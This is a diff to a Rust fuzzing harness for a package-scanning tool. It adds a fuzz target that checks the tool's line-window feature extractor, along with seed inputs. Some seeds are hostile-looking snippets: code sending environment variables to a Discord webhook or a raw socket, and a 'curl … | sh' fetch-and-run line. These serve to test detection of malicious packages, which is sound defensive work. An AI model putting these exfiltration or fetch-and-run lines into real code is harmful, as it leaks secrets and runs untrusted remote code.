@@ -1,5 +1,6 @@
 //! Parsers of a package's files, alone and together.
 
+use bomvet::check::likeness::features::{self, Purpose};
 use bomvet::check::parse::{self, Parsed};
 use bomvet::check::{analyse, examples, layers};
 use bomvet::json::{self, Node, Value};
@@ -295,6 +296,35 @@ pub fn json_seeds() -> Vec<Vec<u8>> {
 
 pub fn toml_seeds() -> Vec<Vec<u8>> {
     [parts(&[".toml"]), bytes_of(files("fixtures/cargo", &[".toml", ".lock"], 4 << 10))].concat()
+}
+
+/// Lines that are weighed: every window lies in the text, windows follow each other, and a reading is
+/// the same twice.
+pub fn likeness(data: &[u8]) -> bool {
+    let text = String::from_utf8_lossy(data);
+    let purpose = Purpose::of_files([("README.md", &*text), ("package.json", &*text)].into_iter());
+    let windows = features::windows(&text, &purpose, |_, _| true);
+    let count = text.lines().count() as u32;
+    let mut before = 0;
+    for window in &windows {
+        assert!(before < window.first && window.first <= window.last && window.last <= count);
+        assert!(window.features.windows(2).all(|pair| pair[0] < pair[1]));
+        before = window.first;
+    }
+    let again = features::windows(&text, &purpose, |_, _| true);
+    assert!(windows.iter().zip(&again).all(|(one, other)| one.features == other.features));
+    !windows.is_empty()
+}
+
+pub fn likeness_seeds() -> Vec<Vec<u8>> {
+    [
+        "const hook = 'https://discord.com/api/webhooks/1/a';\nfetch(hook, { body: process.env.HOME_DIR });\n",
+        "import os\n# a remark\ns = socket.create_connection(('198.51.100.7', 443))\ns.send(os.environ['A_B'].encode())\n",
+        "#!/bin/sh\ncurl -fsS \"host.invalid/x\" | sh\n",
+        "fn naïve() { let ünïcode = \"a.b.invalid\"; XMLHttpRequest2(0x1a, '…'); }\n",
+    ]
+    .map(|text| text.as_bytes().to_vec())
+    .to_vec()
 }
 
 /// Prose for both audiences: Markdown, comments, strings of JSON.
